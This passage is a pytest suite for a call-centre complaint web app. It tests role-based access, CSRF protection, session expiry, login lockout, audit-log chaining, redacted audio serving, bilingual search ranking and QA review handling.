"""The web app against a real DuckDB file of the replayed sample calls (stored recognition, real
audio), through Starlette's TestClient: logins, roles on every route, CSRF, lockout, audit rows,
range requests, search, QA validation, worklist and dashboard numbers."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from pipeline.analysis.i18n import text as translated
from pipeline.config.settings import Settings
from tests.dbfile import HOLD, execute, query
from tests.webdb import PASSWORDS, ROLE_USER, make_web_db

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def pristine_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("web") / "callbrief.duckdb"
    make_web_db(path)
    return path


@pytest.fixture(scope="module")
def settings(pristine_db) -> Settings:
    return Settings(web_secret_file=str(pristine_db.parent / "web-secret.key"))


@pytest.fixture(scope="module")
def sessions(pristine_db, settings) -> dict[str, str]:
    """One real login per user (argon2 is slow by design); each test's copy of the database keeps
    the users and the signing key, so these cookies are valid there too."""
    from web.app import create_app

    app = create_app(pristine_db, settings)
    app.state.indexer.join()  # copies of the file start with the search index built
    cookies = {}
    for name in PASSWORDS:
        client = TestClient(app)
        assert login(client, name).status_code == 303
        cookies[name] = client.cookies.get("cb_session")
    return cookies


@pytest.fixture
def db(pristine_db, sessions, tmp_path) -> Path:
    """A fresh copy per test, so writes (callbacks, reviews, lockouts) never leak between tests."""
    path = tmp_path / "callbrief.duckdb"
    shutil.copy(pristine_db, path)
    return path


@pytest.fixture
def app(db, settings, sessions):
    from web.app import create_app

    app = create_app(db, settings)
    app.state.indexer.join()  # the start-up search indexing is done before the test writes to the file itself
    app.state.cookies = sessions
    return app


def login(client: TestClient, username: str, password: str | None = None):
    """Logs in from a browser that asks for English (the login page has no user yet), so the
    answers below are compared in English."""
    english = {"Accept-Language": "en-GB,en;q=0.9"}
    form = client.get("/login", headers=english)
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    return client.post("/login", data={"username": username, "password": password or PASSWORDS[username][1],
                                       "csrf_token": token, "next": ""}, headers=english, follow_redirects=False)


def client_as(app, username: str) -> TestClient:
    client = TestClient(app)
    client.cookies.set("cb_session", app.state.cookies[username])
    return client


def csrf_of(client: TestClient) -> str:
    return client.get("/api/me").json()["csrf_token"]


def sample_ids(db: Path) -> tuple[str, str]:
    return query(db, "SELECT sample_id, call_id FROM qa_samples ORDER BY call_id LIMIT 1")[0]


# Which roles may use each route (the app's contract; the test checks the app keeps it).
ALLOWED = {
    "/": "handler qa lead admin", "/logout": "handler qa lead admin",
    "/worklist": "handler lead admin", "/customers/{customer_id}": "handler lead admin",
    "/customers/{customer_id}/callback": "handler lead admin",
    "/calls/{call_id}": "handler qa lead admin", "/calls/{call_id}/audio": "handler qa lead admin",
    "/calls/{call_id}/plot.svg": "handler qa lead admin",
    "/calls/{call_id}/audio/original": "",  # only the roles the original_audio_roles setting names: none by default
    "/search": "handler qa lead admin",
    "/qa": "qa lead admin", "/qa/rollup": "qa lead admin", "/qa/export/{sample_id}.csv": "qa lead admin",
    "/qa/{sample_id}/{call_id}": "qa lead admin", "/dashboard": "lead admin",
    "/api/me": "handler qa lead admin", "/api/worklist": "handler lead admin",
    "/api/customers/{customer_id}": "handler lead admin", "/api/customers/{customer_id}/callback": "handler lead admin",
    "/api/calls/{call_id}": "handler qa lead admin", "/api/search": "handler qa lead admin",
    "/api/qa/queue": "qa lead admin", "/api/qa/{sample_id}/{call_id}": "qa lead admin",
    "/api/qa/rollup": "qa lead admin", "/api/dashboard": "lead admin",
    "/api/openapi.json": "handler qa lead admin", "/api/docs": "handler qa lead admin",
    "/settings": "handler qa lead admin",
}
PUBLIC = {"/login"}


def routes(app, db) -> list[tuple[str, str]]:
    """(method, concrete url) for every route of the app."""
    sample_id, call_id = sample_ids(db)
    values = {"customer_id": "C1001", "call_id": call_id, "sample_id": sample_id}
    out = []
    for route in _api_routes(app.routes):
        url = re.sub(r"\{(\w+)\}", lambda m: values[m.group(1)], route.path)
        out += [(method, route.path, url) for method in sorted(route.methods)]
    return out


def _api_routes(routes):
    """Every APIRoute, also those of the routers the app includes (kept apart by FastAPI 0.150)."""
    for route in routes:
        if isinstance(route, APIRoute):
            yield route
        elif hasattr(route, "original_router"):
            yield from _api_routes(route.original_router.routes)


def test_every_route_has_a_role_rule_and_only_login_is_public(app, db):
    paths = {path for _, path, _ in routes(app, db)}
    assert paths - PUBLIC == set(ALLOWED), "a route was added without deciding who may use it"
    # Besides the login form, only the stylesheet and script are served without a login: no data.
    static = Path(__file__).resolve().parents[2] / "web" / "static"
    assert {p.name for p in static.iterdir()} == {"app.css", "app.js"}


def test_nothing_is_reachable_without_login(app, db):
    anonymous = TestClient(app)
    for method, path, url in routes(app, db):
        if path in PUBLIC:
            continue
        r = anonymous.request(method, url, follow_redirects=False)
        if path.startswith("/api/") and path != "/api/docs":  # the docs are a page
            assert r.status_code == 401, (method, url, r.status_code)
        else:
            assert r.status_code == 303 and r.headers["location"].startswith("/login"), (method, url, r.status_code)
    # A forged or tampered cookie is the same as none.
    anonymous.cookies.set("cb_session", "eyJ1IjoibGVlIiwiZSI6MCwiYyI6IngifQ.AAAAAA.forged")
    assert anonymous.get("/api/dashboard").status_code == 401


def test_every_route_checks_the_role(app, db):
    clients = {role: client_as(app, user) for role, user in ROLE_USER.items()}
    tokens = {role: csrf_of(c) for role, c in clients.items()}
    for method, path, url in routes(app, db):
        if path in PUBLIC or path == "/logout":
            continue
        allowed = ALLOWED[path].split()
        for role, client in clients.items():
            if role in allowed[1:]:
                continue  # the least privileged allowed role stands for the others (pages are slow to render)
            r = client.request(method, url, headers={"X-CSRF-Token": tokens[role]}, follow_redirects=False)
            if role in allowed:
                assert r.status_code != 403, (role, method, url, r.text[:200])
            else:
                assert r.status_code == 403, (role, method, url, r.status_code)
                # the API in English; a page in the user's language (the test users read Chinese)
                assert "cannot open this page" in r.text if url.startswith("/api/") else "无权访问" in r.text


def test_login_sets_a_hardened_cookie_and_logout_ends_it(app):
    client = TestClient(app)
    r = login(client, "hana")
    cookie = [h for h in r.headers.get_list("set-cookie") if h.startswith("cb_session=")][0].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "max-age=28800" in cookie
    stolen = client.cookies.get("cb_session")
    assert client.get("/worklist").status_code == 200
    client.post("/logout", data={"csrf_token": csrf_of(client)}, follow_redirects=False)
    replay = TestClient(app)
    replay.cookies.set("cb_session", stolen)
    assert replay.get("/worklist", follow_redirects=False).status_code == 303  # the old cookie no longer works


def test_session_expires():
    from web.auth import Sessions, User

    sessions = Sessions(b"k" * 32, max_age_seconds=1)
    cookie, _ = sessions.issue(User("hana", "handler", 0))
    assert sessions.read(cookie)["u"] == "hana"
    time.sleep(2.1)
    assert sessions.read(cookie) is None


def test_login_form_needs_its_csrf_token(app):
    client = TestClient(app)
    client.get("/login")
    r = client.post("/login", data={"username": "hana", "password": PASSWORDS["hana"][1], "csrf_token": "made-up"},
                    follow_redirects=False)
    assert r.status_code == 200 and "登录表单已过期" in r.text and "cb_session" not in client.cookies  # zh: no Accept-Language


def test_forms_and_api_posts_need_the_session_csrf_token(app, db):
    client = client_as(app, "hana")
    for token in (None, "wrong-token"):
        data = {"outcome": "resolved", "note": "x", **({"csrf_token": token} if token else {})}
        r = client.post("/customers/C1001/callback", data=data, follow_redirects=False)
        assert r.status_code == 403 and "表单已过期或并非来自本网站" in r.text
        assert client.post("/api/customers/C1001/callback", json={"outcome": "resolved"},
                           headers={"X-CSRF-Token": token or ""}).status_code == 403
    assert query(db, "SELECT count(*) FROM callbacks")[0][0] == 0
    # Another user's token does not work either.
    other = csrf_of(client_as(app, "hugo"))
    assert client.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": other},
                       follow_redirects=False).status_code == 403
    r = client.post("/customers/C1001/callback", data={"outcome": "resolved", "note": "回访完成",
                                                        "csrf_token": csrf_of(client)}, follow_redirects=False)
    assert r.status_code == 303
    assert query(db, "SELECT customer_id, handler, outcome, note FROM callbacks") == [("C1001", "hana", "resolved", "回访完成")]


def test_repeated_failures_lock_the_account_with_growing_back_off(app, db):
    from web.auth import FREE_FAILURES, lock_seconds

    client = TestClient(app)
    for _ in range(FREE_FAILURES):
        r = login(client, "hana", "wrong password!")
        assert r.status_code == 401
    assert "locked for 30 s" in r.text
    # While locked, even the right password is refused, and says how long to wait.
    r = login(client, "hana")
    assert r.status_code == 401 and "try again in" in r.text
    locked_until = query(db, "SELECT locked_until FROM users WHERE username = 'hana'")[0][0]
    assert locked_until > datetime.utcnow() + timedelta(seconds=20)
    assert [lock_seconds(n) for n in range(FREE_FAILURES, FREE_FAILURES + 3)] == [30, 60, 120]
    assert lock_seconds(50) == 15 * 60
    # Unknown names get the same answer as wrong passwords.
    assert "wrong user name or password" in login(client, "nobody", "whatever-pass").text
    actions = [r[0] for r in query(db, "SELECT action FROM audit_log WHERE target = 'hana'")]
    assert actions.count("login_failed") == FREE_FAILURES + 1
    # Another account is not affected.
    assert login(client, "hugo").status_code == 303


def test_users_cli_add_passwd_disable(db, settings, monkeypatch, capsys):
    from flows.cli import main

    monkeypatch.setattr(sys, "stdin", io.StringIO("a-long-password\n"))
    assert main(["users", "add", "neo", "--role", "qa", "--db", str(db), "--password-stdin"]) == 0
    monkeypatch.setattr(sys, "stdin", io.StringIO("a-long-password\n"))
    assert main(["users", "add", "neo", "--role", "qa", "--db", str(db), "--password-stdin"]) == 1
    assert "exists" in capsys.readouterr().err
    monkeypatch.setattr(sys, "stdin", io.StringIO("short\n"))
    assert main(["users", "passwd", "neo", "--db", str(db), "--password-stdin"]) == 1
    assert "too short" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["users", "add", "zed", "--role", "boss", "--db", str(db), "--password-stdin"])
    monkeypatch.setattr(sys, "stdin", io.StringIO("a-long-password\n"))
    assert main(["users", "add", "ivy", "--role", "qa", "--lang", "en", "--db", str(db), "--password-stdin"]) == 0
    capsys.readouterr()
    assert main(["users", "list", "--db", str(db)]) == 0
    listed = {line.split()[0]: line.split() for line in capsys.readouterr().out.splitlines()}
    assert listed["ivy"][2] == "en" and listed["neo"][2] == "zh"  # Chinese unless asked
    from web.app import create_app

    def fresh() -> TestClient:  # an app started after the change
        app = create_app(db, settings)
        app.state.indexer.join()
        return TestClient(app, cookies=client.cookies)

    first = create_app(db, settings)
    first.state.indexer.join()
    client = TestClient(first)
    assert login(client, "neo", "a-long-password").headers["location"] == "/qa"
    monkeypatch.setattr(sys, "stdin", io.StringIO("another-password\n"))
    assert main(["users", "passwd", "neo", "--db", str(db), "--password-stdin"]) == 0
    assert fresh().get("/qa", follow_redirects=False).status_code == 303  # a new password ends old sessions
    client = fresh()
    assert login(client, "neo", "another-password").status_code == 303
    ivy = fresh()
    assert login(ivy, "ivy", "a-long-password").status_code == 303 and "QA review queue" in ivy.get("/qa").text
    assert main(["users", "disable", "neo", "--db", str(db)]) == 0
    client = fresh()
    assert client.get("/qa", follow_redirects=False).status_code == 303
    r = login(client, "neo", "another-password")
    assert r.status_code == 401 and "disabled" in r.text
    hashes = query(db, "SELECT password_hash FROM users WHERE username = 'neo'")[0][0]
    assert hashes.startswith("$argon2") and "another-password" not in hashes


def test_views_of_briefing_call_and_audio_are_audited(app, db):
    client = client_as(app, "hana")
    assert client.get("/customers/c1001 ").status_code == 200  # ids are matched case-insensitively, trimmed
    assert client.get("/calls/zh-1001-b").status_code == 200
    assert client.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=0-99"}).status_code == 206
    assert client.get("/api/calls/en-2001").status_code == 200
    logged = query(db, "SELECT username, role, action, target FROM audit_log WHERE action LIKE 'view%' "
                       "OR action = 'play_audio' ORDER BY logged_at")
    assert logged == [("hana", "handler", "view_briefing", "C1001"), ("hana", "handler", "view_call", "zh-1001-b"),
                      ("hana", "handler", "play_audio", "zh-1001-b"), ("hana", "handler", "view_call", "en-2001")]


def test_the_audit_log_of_a_working_session_is_one_verified_chain(app, db, capsys):
    """Logins (a failed one too), views, audio, a callback, a QA review and export, a logout: every
    row is chained, and `callbrief audit verify` says OK with the row count."""
    from flows.cli import main
    from pipeline.outputs.qa import scorecard_items

    sample_id, call_id = sample_ids(db)
    anonymous, hana, quinn = TestClient(app), TestClient(app), TestClient(app)
    assert login(anonymous, "hana", "not her password").status_code == 401
    assert login(hana, "hana").status_code == 303 and login(quinn, "quinn").status_code == 303
    for url in ("/customers/C1001", "/calls/zh-1001-b", "/api/calls/en-2001"):
        assert hana.get(url).status_code == 200, url
    assert hana.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=0-9"}).status_code == 206
    assert hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)}).status_code == 200
    assert quinn.post(f"/qa/{sample_id}/{call_id}", data={**{i["id"]: "pass" for i in scorecard_items()},
                                                         "csrf_token": csrf_of(quinn)}).status_code == 200
    assert quinn.get(f"/qa/export/{sample_id}.csv").status_code == 200
    assert hana.post("/logout", data={"csrf_token": csrf_of(hana)}, follow_redirects=False).status_code == 303
    actions = {r[0] for r in query(db, "SELECT action FROM audit_log")}
    assert {"login_failed", "login", "view_briefing", "view_call", "play_audio", "callback_done", "qa_review",
            "qa_export", "logout"} <= actions, actions
    total = query(db, "SELECT count(*), count(hash), max(id) FROM audit_log")[0]
    assert total[0] == total[1] == total[2] > 10
    assert main(["audit", "verify", "--db", str(db)]) == 0
    assert capsys.readouterr().out.startswith(f"audit log OK: {total[0]} rows")


def test_audio_answers_range_requests(app, db):
    """The redacted copy (the original is never served here), whole or in ranges."""
    import io

    import soundfile as sf

    client = client_as(app, "quinn")
    path = Path(query(db, "SELECT path FROM calls WHERE call_id = 'zh-1001-b'")[0][0])
    whole = client.get("/calls/zh-1001-b/audio").content
    assert whole != path.read_bytes() and whole.startswith(b"fLaC")
    assert abs(sf.info(io.BytesIO(whole)).duration - sf.info(path).duration) < 0.1
    r = client.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=5000-5999"})
    assert r.status_code == 206 and r.headers["content-range"] == f"bytes 5000-5999/{len(whole)}"
    assert r.content == whole[5000:6000] and r.headers["content-type"] == "audio/flac"
    r = client.get("/calls/zh-1001-b/audio", headers={"Range": f"bytes={len(whole) - 10}-"})
    assert r.status_code == 206 and r.content == whole[-10:]
    assert client.get("/calls/zh-1001-b/audio", headers={"Range": f"bytes={len(whole) + 5}-"}).status_code == 416
    full = client.get("/calls/zh-1001-b/audio")
    assert full.status_code == 200 and full.headers["accept-ranges"] == "bytes" and full.content == whole
    assert client.get("/calls/no-such-call/audio").status_code == 404
    assert client.post("/calls/zh-1001-b/audio/original", data={"reason": "complaint review 2026-12",
                                                                "csrf_token": csrf_of(client)}).status_code == 403
    plot = client.get("/calls/zh-1001-b/plot.svg")  # the pipeline's plot file, served behind the login
    assert plot.status_code == 200 and plot.text.lstrip().startswith("<svg")


def test_call_page_shows_the_direction(app, db):
    client = client_as(app, "hana")
    page = client.get("/calls/en-2001").text
    # Detected from the hotline greeting: the direction, how it was found and how sure, on one line.
    line = re.search(r"<dt>呼叫方向</dt><dd[^>]*>(.*?)</dd>", page, re.S)  # hana reads Chinese
    assert line and "客户来电" in line[1] and re.search(r"由通话开场识别，置信度.*\d+%", line[1])
    assert "[NAME]" in re.search(r'lang="en" title="([^"]*)"', page[page.index("呼叫方向"):])[1]  # the masked quote, on hover
    execute(db, "UPDATE calls SET direction = 'callback', direction_source = 'manifest', direction_confidence = 1.0, "
                "direction_evidence = NULL WHERE call_id = 'en-2001'")
    line = re.search(r"<dt>呼叫方向</dt><dd>(.*?)</dd>", client.get("/calls/en-2001").text, re.S)
    assert line and "“…”" not in line[1]  # no quote when the manifest said so
    assert line and "投诉回访" in line[1] and "来自清单" in line[1]


def test_pages_name_the_authority_a_threat_named(app, db):
    client = client_as(app, "hana")
    page = client.get("/calls/zh-1001-b").text
    flags = re.search(r'<dd>(<span class="flag flag-.*?)</dd>', page, re.S)[1]
    # The three flags as before, and beside them which authority and channel, the customer's words on hover.
    assert "扬言向金融监管总局(12378)投诉" in flags and "扬言找媒体曝光" in flags
    assert "金融监管总局" in re.search(r'class="flag flag-source"[^>]* title="([^"]*)"', flags)[1]
    assert "· 电话" in page  # where the complaint came in, beside the case (hana reads Chinese)
    assert "扬言找金融申诉专员" in client.get("/").text  # C2002's ombudsman, on the worklist
    items = {i["customer_id"]: i for i in client.get("/api/worklist").json()}
    assert items["C1001"]["sources"] == ["nfra_12378", "media"] and items["C2002"]["sources"] == ["ombudsman", "lawyer"]
    assert "扬言向金融监管总局(12378)投诉" in client.get("/customers/C1001").text


def test_worklist_orders_flags_and_clears_after_callback(app, db):
    client = client_as(app, "hana")
    items = client.get("/api/worklist").json()
    complaints = {r[0] for r in query(db, "SELECT DISTINCT c.customer_id FROM calls c JOIN escalation e USING (call_id) "
                                          "WHERE e.call_score >= 40 OR json_array_length(e.flags) > 0")}
    assert {i["customer_id"] for i in items} == complaints and "C1001" in complaints
    lefts = [i["minutes_left"] for i in items]
    assert lefts == sorted(lefts)
    c1001 = next(i for i in items if i["customer_id"] == "C1001")
    assert "regulator_threat" in c1001["flags"] and "repeat_complaint" in c1001["flags"]
    # 30 minutes after the complaint call's start, read in the centre's zone (16:40 Beijing = 08:40 UTC).
    assert c1001["due_local"].startswith("2026-11-20 17:10:00+08:00")
    page = client.get("/worklist").text
    assert "C1001" in page and "扬言向金融监管总局(12378)投诉" in page and "扬言向监管投诉" not in page and "已超时" in page  # hana reads Chinese; the threat by the authority named, once
    # Attempts that closed nothing keep the customer on the list, still late against the target,
    # the next attempt due a callback target after the last one; only a closing outcome clears it.
    for outcome in ("no_answer", "follow_up"):
        client.post("/customers/C1001/callback", data={"outcome": outcome, "csrf_token": csrf_of(client)})
        (again,) = [i for i in client.get("/api/worklist").json() if i["customer_id"] == "C1001"]
        attempt = datetime.fromisoformat(again["attempt_local"])
        assert again["attempt_outcome"] == outcome and again["due_local"] == c1001["due_local"]
        assert again["minutes_left"] < 0  # the complaint is still overdue against the target
        assert datetime.fromisoformat(again["next_attempt_local"]) == attempt + timedelta(minutes=30)
        assert abs((attempt - datetime.now(timezone.utc)).total_seconds()) < 120
    assert "需跟进" in client.get("/worklist").text  # the outcome's name in hana's language
    briefing = client.get("/customers/C1001").text
    assert "hana" in briefing and "需跟进" in briefing and "未接通" in briefing  # both attempts shown
    client.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": csrf_of(client)})
    assert "C1001" not in {i["customer_id"] for i in client.get("/api/worklist").json()}


def test_the_callback_form_preselects_no_outcome(app, db):
    """A hurried click must not record a resolution: the outcome is a choice, and none is made for you."""
    client = client_as(app, "hana")
    form = client.get("/customers/C1001").text
    select = form[form.index('<select name="outcome"'):]
    select = select[:select.index("</select>")]
    assert '<option value="" selected disabled>' in select and select.count("selected") == 1
    r = client.post("/customers/C1001/callback", data={"outcome": "", "csrf_token": csrf_of(client)},
                    follow_redirects=False)
    assert r.status_code == 422 and query(db, "SELECT count(*) FROM callbacks")[0][0] == 0


def test_customer_deadlines_show_as_clock_times_passed_or_open(app, db):
    """Briefings carrying `deadlines` (the briefing interface of issue 12) are shown as clock times."""
    now = datetime.now(timezone.utc)
    payload = json.loads(query(db, "SELECT json FROM briefings WHERE customer_id = 'C1001'")[0][0])
    payload["deadlines"] = [
        {"text": "今天下午五点之前", "due": (now - timedelta(hours=2)).isoformat(), "status": "passed",
         "call_id": "zh-1001-b", "time": 35.79},
        {"text": "within 24 hours", "due": (now + timedelta(hours=5)).isoformat(), "status": "open",
         "call_id": "zh-1001-b", "time": 35.79}]
    execute(db, ("INSERT INTO briefings VALUES ('C1001', now()::TIMESTAMP + INTERVAL 1 HOUR, 'zh', 2, '', ?)",
                 [json.dumps(payload, ensure_ascii=False)]))
    client = client_as(app, "hana")
    item = next(i for i in client.get("/api/worklist").json() if i["customer_id"] == "C1001")
    passed, open_ = item["deadlines"]
    assert passed["passed"] and not open_["passed"] and 4.9 < open_["hours_left"] < 5.0
    local = (now + timedelta(hours=5)).astimezone(Settings().tz)
    page = client.get("/customers/C1001").text
    first = page[page.index('id="first-screen"'):page.index('class="cols"')]
    # The open deadline on the first screen with its hours left; the passed one below, tagged on its sentence.
    assert local.strftime("%Y-%m-%d %H:%M") in first and "剩余 5.0 小时" in first and "within 24 hours" in first
    assert "“今天下午五点之前”" not in first and "时限已过" in page
    # Each deadline has a play button 3 s before the moment it was said.
    assert 'data-call="zh-1001-b" data-t="32.79"' in page


def test_briefing_page_has_plot_and_play_buttons_before_each_moment(app, db):
    client = client_as(app, "hana")
    page = client.get("/customers/C1001").text
    assert '<svg class="timeline"' in page and "监管投诉" in page  # the flag is labelled on the plot
    payload = json.loads(query(db, "SELECT json FROM briefings WHERE customer_id = 'C1001' "
                                   "ORDER BY created_at DESC LIMIT 1")[0][0])
    for moment in payload["demands"] + payload["moments"] + payload["promises"]:
        start = max(moment["time"] - 3.0, 0)
        assert f'data-call="{moment["call_id"]}" data-t="{start:.2f}"' in page
    assert "12278" in page or "金融监管总局" in page  # masked text still keeps what matters


def test_call_view_shows_masked_turns_roles_scores_and_corrections(app, db):
    turns = query(db, 'SELECT seq, role, redacted_text, text, score FROM turns WHERE call_id = ? ORDER BY seq', ["en-2001"])
    execute(db, "INSERT INTO corrections (call_id, seq, start, \"end\", original, corrected, kind) "  # as vocabulary stores
                "VALUES ('en-2001', 3, 20.8, 22.0, 'arrest', 'address', 'vocabulary')")
    client = client_as(app, "quinn")
    page = client.get("/calls/en-2001").text
    for seq, role, redacted, text, score in turns:
        assert f'id="turn-{seq}" class="turn {role}"' in page
        shown = re.sub(r"<[^>]+>", "", page).replace("&#39;", "'").replace("&quot;", '"')  # marks aside
        assert str(re.sub(r"[&<>\"']", "", redacted)[:20]) in shown
    assert "<del>arrest</del>" in page and "<ins>address</ins>" in page
    masked = query(db, "SELECT call_id, text, redacted_text FROM turns WHERE text <> redacted_text")
    assert masked, "a sample call has masked turns"
    with_digits = 0
    for call_id, text, redacted in masked:
        digits = [d for d in re.findall(r"\d{4,}", text) if d not in redacted]
        with_digits += bool(digits)  # (a masked date of birth or name holds no digits)
        page = client.get(f"/calls/{call_id}").text
        assert not any(d in page for d in digits)  # the planted digits never reach the page
    assert with_digits


def test_search_ranks_the_turn_with_every_word_first(tmp_path):
    """On a small generated bench database: BM25 alone ranks a short turn repeating one query word
    above a long turn holding every query word; the search puts the latter first, and marks the
    words in the page, escaped."""
    from evaluation.bench_web import generate
    from pipeline.store import Store
    from web import search
    from web.app import create_app

    db = tmp_path / "bench.duckdb"
    generate(db, 40)
    filler = "我想问一下我上个月在网上办理的那笔业务到现在还没有任何消息你们能不能帮我查一下"
    planted = {("g000001", 0): f"{filler}我的卡什么时候可以解冻{filler}",  # both words, once, in a long turn
               ("g000002", 0): "解冻解冻解冻",  # one word, three times, short
               ("g000003", 0): "请尽快解冻",
               ("g000004", 0): f"{filler} zebra crossing {filler} near the quokka enclosure {filler}",
               ("g000005", 0): "quokka quokka quokka",
               ("g000006", 0): "<b>zebra</b> & friends"}
    execute(db, *[("UPDATE turns SET redacted_text = ? WHERE call_id = ? AND seq = ?", [text, c, s])
                  for (c, s), text in planted.items()],
            ("UPDATE calls SET processed_at = now()::TIMESTAMP WHERE call_id IN (SELECT unnest(?))",
             [[c for c, _ in planted]]))
    assert search.refresh_index(Store(db), budget=30) == 40  # every call: none was indexed yet
    app = create_app(db, Settings(web_secret_file=str(tmp_path / "web-secret.key")))
    app.state.indexer.join()
    client = TestClient(app)
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    client.post("/login", data={"username": "bench-handler", "password": "bench-password-1", "csrf_token": token})
    for words, best, one_word in (("解冻 卡", ("g000001", 0), ("g000002", 0)),
                                  ("zebra quokka", ("g000004", 0), ("g000005", 0))):
        hits = client.get("/api/search", params={"q": words}).json()
        at = {(h["call_id"], h["seq"]): i for i, h in enumerate(hits)}
        assert hits[at[best]]["matched"] == 2 and hits[at[one_word]]["matched"] == 1
        assert at[best] < at[one_word], (words, hits[:5])
        assert hits[at[one_word]]["score"] > hits[at[best]]["score"]  # BM25 alone would have put it first
        for h in hits:  # how many query words each hit holds, counted again from its text
            assert h["matched"] == len(set(words.split()) & set(search.tokens(h["text"]))), h
        order = [(-h["matched"], -h["score"]) for h in hits]
        assert order == sorted(order)  # every word first, then best BM25 first
    assert [(h["call_id"], h["seq"]) for h in client.get("/api/search", params={"q": "zebra quokka"}).json()][0] \
        == ("g000004", 0)
    page = client.get("/search", params={"q": "zebra"}).text
    assert '&lt;b&gt;<mark class="hit-word">zebra</mark>&lt;/b&gt; &amp; friends' in page
    assert page.index("g000006") < page.index("g000004")  # the short turn ranks first for one word
    assert "style=" not in page
    # A call deleted since: gone from the index at the next refresh.
    execute(db, "DELETE FROM turns WHERE call_id = 'g000004'", "DELETE FROM calls WHERE call_id = 'g000004'")
    assert search.refresh_index(Store(db)) == 1
    assert ("g000004", 0) not in [(h["call_id"], h["seq"]) for h in client.get("/api/search", params={"q": "quokka"}).json()]


def test_search_in_chinese_and_english_with_filters(app, db):
    from web.search import tokens

    client = client_as(app, "quinn")
    # A word said in each stored sample call: the first two-character token of a customer turn.
    for call_id in ("zh-1001-b", "en-2002"):
        seq, text = query(db, "SELECT seq, redacted_text FROM turns WHERE call_id = ? AND role = 'customer' "
                              "ORDER BY seq LIMIT 1", [call_id])[0]
        word = max(tokens(text), key=len)
        hits = client.get("/api/search", params={"q": word}).json()
        assert any(h["call_id"] == call_id and h["seq"] == seq for h in hits), (word, hits)
        assert all(word.lower() in h["text"].lower() for h in hits)
        page = client.get("/search", params={"q": word}).text
        assert f'href="/calls/{call_id}?t=' in page and f"#turn-{seq}" in page and '<mark class="hit-word">' in page
    regulator = client.get("/api/search", params={"flag": "regulator_threat"}).json()
    assert {h["call_id"] for h in regulator} == {r[0] for r in query(
        db, "SELECT call_id FROM escalation WHERE list_contains(CAST(flags AS VARCHAR[]), 'regulator_threat')")}
    high = client.get("/api/search", params={"min_escalation": 50}).json()
    assert {h["call_id"] for h in high} == {r[0] for r in query(db, "SELECT call_id FROM escalation WHERE call_score >= 50")}
    assert client.get("/api/search", params={"customer": "c2001", "date_from": "2026-11-20",
                                             "date_to": "2026-11-20"}).json()[0]["call_id"] == "en-2001"
    assert client.get("/api/search", params={"customer": "C2001", "date_from": "2026-11-21"}).json() == []
    r = client.get("/api/search", params={"date_from": "yesterday"})
    assert r.status_code == 422 and "bad search filter" in r.json()["detail"]
    # Reprocessing a call re-indexes it: the index follows calls.processed_at.
    execute(db, "UPDATE turns SET redacted_text = 'zebra crossing' WHERE call_id = 'en-2001' AND seq = 0",
            "UPDATE calls SET processed_at = now()::TIMESTAMP WHERE call_id = 'en-2001'")
    assert [(h["call_id"], h["seq"]) for h in client.get("/api/search", params={"q": "zebra"}).json()] == [("en-2001", 0)]


def test_qa_review_is_validated_stored_once_per_reviewer_and_rolled_up(app, db):
    from pipeline.config.datafiles import read_json

    items = [i["id"] for i in read_json("qa_scorecard.json")["items"]]
    sample_id, call_id = sample_ids(db)
    client = client_as(app, "quinn")
    page = client.get(f"/qa/{sample_id}/{call_id}").text
    assert 'id="scorecard"' in page and 'id="turns"' in page  # the call view beside the scorecard
    prefill = {c["item"]: c["prefill"] for c in json.loads(
        query(db, "SELECT scorecard FROM qa_samples WHERE call_id = ?", [call_id])[0][0])}
    for item, value in prefill.items():
        assert re.search(rf'name="{item}" value="{re.escape(value)}" checked', page), item
    token = csrf_of(client)
    bad = {**{i: "pass" for i in items}, "greeting": "meh"}
    r = client.post(f"/qa/{sample_id}/{call_id}", data={**bad, "csrf_token": token})
    assert r.status_code == 422 and "评审未能保存" in r.text  # in quinn's language; the API says which item
    r = client.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": {"listening": 7}}, headers={"X-CSRF-Token": token})
    assert r.status_code == 422
    r = client.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": {**{i: "pass" for i in items}, "tone": "pass"}},
                    headers={"X-CSRF-Token": token})
    assert r.status_code == 422 and "unknown scorecard item" in r.json()["detail"]
    assert query(db, "SELECT count(*) FROM qa_reviews")[0][0] == 0
    good = {i: "pass" for i in items}
    assert client.post(f"/qa/{sample_id}/{call_id}", data={**good, "csrf_token": token,
                                                            "comment": "ok"}).status_code == 200
    good["closing"] = "fail"
    client.post(f"/qa/{sample_id}/{call_id}", data={**good, "csrf_token": token, "comment": "edited"})
    stored = query(db, "SELECT reviewer, scores, comment FROM qa_reviews")
    assert len(stored) == 1 and json.loads(stored[0][1])["closing"] == "fail" and stored[0][2] == "edited"
    lead = client_as(app, "lee")  # a second reviewer adds their own review
    lead.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": {i: "pass" for i in items}},
              headers={"X-CSRF-Token": csrf_of(lead)})
    agent = query(db, "SELECT agent_id FROM calls WHERE call_id = ?", [call_id])[0][0]
    rollup = {a["agent_id"]: a for a in client.get("/api/qa/rollup").json()}
    assert rollup[agent]["n_reviews"] == 2 and rollup[agent]["pass_rate"]["closing"] == 0.5
    assert rollup[agent]["pass_rate"]["greeting"] == 1.0
    export = client.get(f"/qa/export/{sample_id}.csv")
    table = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert set(items) <= set(table[0]) and "scorecard" not in table[0]
    quinn = next(r for r in table if r["reviewer"] == "quinn")
    assert quinn["call_id"] == call_id and quinn["closing"] == "fail" and quinn["greeting"] == "pass"
    assert len({r["call_id"] for r in table}) == query(db, "SELECT count(*) FROM qa_samples WHERE sample_id = ?",
